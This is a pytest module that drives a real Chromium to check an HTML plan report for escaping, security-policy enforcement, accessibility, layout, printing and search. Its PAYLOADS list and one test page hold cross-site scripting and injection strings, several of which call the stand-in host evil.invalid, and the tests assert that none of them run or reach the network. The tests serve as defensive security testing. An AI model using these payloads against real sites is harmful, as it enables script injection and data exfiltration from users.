"""The report in a real Chromium: runs nothing of a plan's, asks nothing of a network, fits, and is there for all."""

from __future__ import annotations

import os
import threading
from collections.abc import Iterator, Sequence
from http.server import BaseHTTPRequestHandler, HTTPServer
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest
from pypdfium2 import PdfDocument
from tests.cli.conftest import SMALL
from tests.helpers.extracts import extract, marked
from tests.helpers.plans import by, plan, row
from tools.browser import CHROMIUM, Browser, browsing

from gkplan import i18n
from gkplan.plan.load import load
from gkplan.writers.html import HtmlWriter
from gkplan.writers.interface import Extract

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None and not os.environ.get("CI"), reason="`make system` installs Chromium"),
]
MOST_PAGES = 30
SIZES = {"desktop": (1280, 900), "phone": (390, 844)}
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=http://evil.invalid/i onerror=alert(2)>",
    "<svg onload=alert(3)><use href=http://evil.invalid/u></svg>",
    "\"'><iframe src=http://evil.invalid/f></iframe>",
    "</style><style>@import 'http://evil.invalid/s'; body{background:url(http://evil.invalid/b)}</style>",
    "</script><script src=http://evil.invalid/j></script>",
    "<link rel=prefetch href=http://evil.invalid/l><meta http-equiv=refresh content='0;url=http://evil.invalid/r'>",
    "<form action=http://evil.invalid/a><button autofocus>x</button></form><base href=http://evil.invalid/>",
    "{{ 7*7 }}{% include 'report.css' %}${alert(4)}",
    "javascript:alert(5)",
    "\u202e\u0000]]>--><!--",
)


class Listener(HTTPServer):
    """A server that counts who asks; every host's name leads to it."""

    asked: Sequence[str] = ()


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.asked = [*self.server.asked, self.path]  # type: ignore[attr-defined]
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_said: Any) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    """A server for as long as the module's tests run."""
    with Listener(("127.0.0.1", 0), _Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def browser(listener: Listener, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    """One Chromium for all, to which every name is the listener's address."""
    rules = f"--host-resolver-rules=MAP * 127.0.0.1:{listener.server_address[1]}"
    with browsing(tmp_path_factory.mktemp("chromium"), rules) as one:
        yield one


@pytest.fixture
def opened(browser: Browser) -> Iterator[Browser]:
    """The browser as a new visitor has it."""
    browser.size(*SIZES["desktop"])
    browser.media()
    browser.ask("Page.setBypassCSP", enabled=False)
    browser.ask("Emulation.setScriptExecutionDisabled", value=False)
    yield browser
    browser.ask("Emulation.setScriptExecutionDisabled", value=False)


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report of the plan of 2016 in December, in Chinese, with one item done."""
    table = load(Path(__file__).parents[2] / "data/tasks.yaml", shown="tasks.yaml").plan
    assert table is not None
    asked = extract(table, marked(table, "2.1@2016-12-31", "市房管局", "done"), today="2016-12-01")
    return made(asked, tmp_path_factory.mktemp("report"))


def made(asked: Extract, folder: Path, lang: str = "zh") -> Path:
    """A report as a file."""
    i18n.use(lang)
    path = folder / "report.html"
    path.write_bytes(HtmlWriter().content(asked))
    return path


def shown(browser: Browser) -> list[str]:
    """The rows that can be seen."""
    found: list[str] = browser.value("[...document.querySelectorAll('article:not([hidden])')].map((row) => row.id)")
    return found


def choose(browser: Browser, field: str, value: str) -> None:
    """Fill in a field of the search as a hand would."""
    browser.value(
        f"{{ const field = document.getElementById('{field}'); field.value = '{value}'; "
        "field.dispatchEvent(new Event('input', {bubbles: true})) }"
    )


def hostile() -> Extract:
    """A plan in which every field holds what would do harm."""
    rows = [
        row(
            f"{task}.1",
            by("2016-06-30", quote=words),
            title=words,
            requirement=words,
            units=(f"局{task}{words}",),
            support=(words,),
        )
        for task, words in enumerate((word.replace("\u0000", "") for word in PAYLOADS), 1)
    ]
    table = plan(*rows)
    records = [
        marked(table, f"{each.id}@2016-06-30", each.units[0], "done")._replace(
            note=each.title, evidence=({"url": each.title}, {"url": "http://evil.invalid/proof"}, {"doc": each.title})
        )
        for each in rows
    ]
    return extract(table, *records)


def test_the_guard_sees_what_a_page_does(opened: Browser, listener: Listener, tmp_path: Path) -> None:
    """A page without a policy asks the listener, opens a dialog and throws: all of it is noticed."""
    listener.asked = ()
    page = tmp_path / "bad.html"
    page.write_text(
        "<img src=http://evil.invalid/i><script>setTimeout(() => { throw 1 }); fetch('http://evil.invalid/f')</script>"
    )
    opened.open(page.as_uri())
    opened.settle(0.5)
    assert {"/i", "/f"} <= set(listener.asked)
    assert {"http://evil.invalid/i", "http://evil.invalid/f"} <= set(opened.requests())
    assert opened.troubles()


def test_hostile_words_run_nothing_and_ask_nothing(opened: Browser, listener: Listener, tmp_path: Path) -> None:
    """No request leaves the page, no dialog opens, nothing is thrown, and the policy has nothing to refuse."""
    listener.asked = ()
    opened.open(made(hostile(), tmp_path).as_uri())
    opened.value("for (const each of document.querySelectorAll('details')) each.open = true; scrollTo(0, 1e6)")
    opened.settle(1)
    assert (opened.requests(), opened.troubles(), listener.asked) == ([], [], ())
    assert opened.value("document.querySelectorAll('article').length") == len(PAYLOADS)
    assert opened.value("location.protocol") == "file:"


def test_the_policy_stops_what_would_get_past_the_escaping(
    opened: Browser, listener: Listener, whole: Path, tmp_path: Path
) -> None:
    """Markup slipped into the finished page still runs nothing and asks nothing."""
    listener.asked = ()
    slipped = tmp_path / "slipped.html"
    evil = "".join(word for word in PAYLOADS if "refresh" not in word)
    slipped.write_text(whole.read_text(encoding="utf-8").replace("<main>", f"<main>{evil}"), encoding="utf-8")
    opened.open(slipped.as_uri())
    opened.settle(0.5)
    assert listener.asked == ()
    assert not [event for event in opened.events if event["method"] == "Page.javascriptDialogOpening"]
    assert opened.troubles()


@pytest.mark.parametrize(("size", "scheme"), [("desktop", "light"), ("phone", "dark")])
def test_nothing_is_wrong_by_axe(opened: Browser, whole: Path, size: str, scheme: str) -> None:
    """axe-core finds nothing on the page with every part of it open: names, landmarks, headings, contrast."""
    opened.ask("Page.setBypassCSP", enabled=True)
    opened.size(*SIZES[size], phone=size == "phone")
    opened.media(scheme=scheme)
    opened.open(whole.as_uri())
    opened.value("for (const each of document.querySelectorAll('details')) each.open = true")
    opened.value(files("axe_core_python").joinpath("axe.min.js").read_text(encoding="utf-8") + "; 0")
    told = "({found: said.violations.map((each) => [each.id, each.nodes[0].html]), passed: said.passes.length})"
    said = opened.value(f"axe.run().then((said) => {told})")
    assert said["found"] == []
    assert said["passed"] > 20


@pytest.mark.parametrize("size", SIZES)
def test_the_page_is_never_wider_than_the_window(opened: Browser, whole: Path, size: str) -> None:
    """Only the chart and the table of units scroll sideways, each in its own frame."""
    opened.size(*SIZES[size], phone=size == "phone")
    opened.open(whole.as_uri())
    assert opened.value("document.documentElement.scrollWidth") == SIZES[size][0]


def test_without_a_script_everything_is_there(opened: Browser, whole: Path) -> None:
    """Every row is shown, and the search that would do nothing is not."""
    opened.ask("Emulation.setScriptExecutionDisabled", value=True)
    opened.open(whole.as_uri())
    opened.ask("Emulation.setScriptExecutionDisabled", value=False)
    assert len(shown(opened)) == 91
    assert opened.value("document.getElementById('search').hidden") is True


def test_search_and_filter(opened: Browser, whole: Path) -> None:
    """Words, state and unit narrow the rows together, and how many are left is said."""
    opened.open(whole.as_uri())
    opened.value("document.getElementById('words').focus()")
    opened.type("旅游 季度")
    assert shown(opened) == ["r-2.7", "r-2.8"]
    assert opened.value("document.getElementById('found').textContent") == "显示 2 / 91 项"
    choose(opened, "state", "done")
    assert shown(opened) == []
    choose(opened, "words", "")
    assert shown(opened) == ["r-2.1"]
    choose(opened, "state", "overdue")
    choose(opened, "unit", "市旅游局")
    assert shown(opened) == ["r-2.7", "r-2.8"]


def test_a_link_to_a_row_opens_it(opened: Browser, whole: Path) -> None:
    """Also one that the filter hides."""
    opened.open(whole.as_uri())
    opened.value("document.getElementById('words').focus()")
    opened.type("没有这样的词")
    assert shown(opened) == []
    opened.value("location.hash = 'r-18.5'")
    opened.settle(0.2)
    assert "r-18.5" in shown(opened)
    assert opened.value("document.querySelector('#r-18\\\\.5 details').open") is True


def test_the_keyboard_reaches_everything(opened: Browser, whole: Path) -> None:
    """The first Tab shows the way to the rows; what is focused can be seen to be."""
    opened.open(whole.as_uri())
    opened.press("Tab")
    assert opened.value("document.activeElement.className") == "skip"
    assert opened.value("document.activeElement.getBoundingClientRect().left") >= 0
    reached = set()
    for _step in range(12):
        opened.press("Tab")
        reached.add(
            opened.value("document.activeElement.closest('nav, section')?.id || document.activeElement.tagName")
        )
        assert opened.value("getComputedStyle(document.activeElement).outlineStyle") != "none"
    assert "months" in reached


def test_print_has_every_row_and_no_tools(opened: Browser, whole: Path) -> None:
    """On paper, lying across: all rows with their rules, none of what only a screen can do."""
    opened.open(whole.as_uri())
    document = PdfDocument(opened.pdf())
    texts = ["".join(page.get_textpage().get_text_range().split()) for page in document]
    assert all(page.get_width() > page.get_height() for page in document)
    assert 5 <= len(texts) <= MOST_PAGES
    said = "".join(texts)
    assert "实施分解表" in texts[0]
    assert said.count("截止") >= 40
    assert "搜索" not in said


def test_an_english_report_holds_too(opened: Browser, tmp_path: Path) -> None:
    """The small plan in English opens without trouble and can be searched."""
    opened.open(made(extract(SMALL), tmp_path, "en").as_uri())
    assert (opened.requests(), opened.troubles()) == ([], [])
    assert opened.value("document.getElementById('found').textContent") == "10 of 10 rows shown"
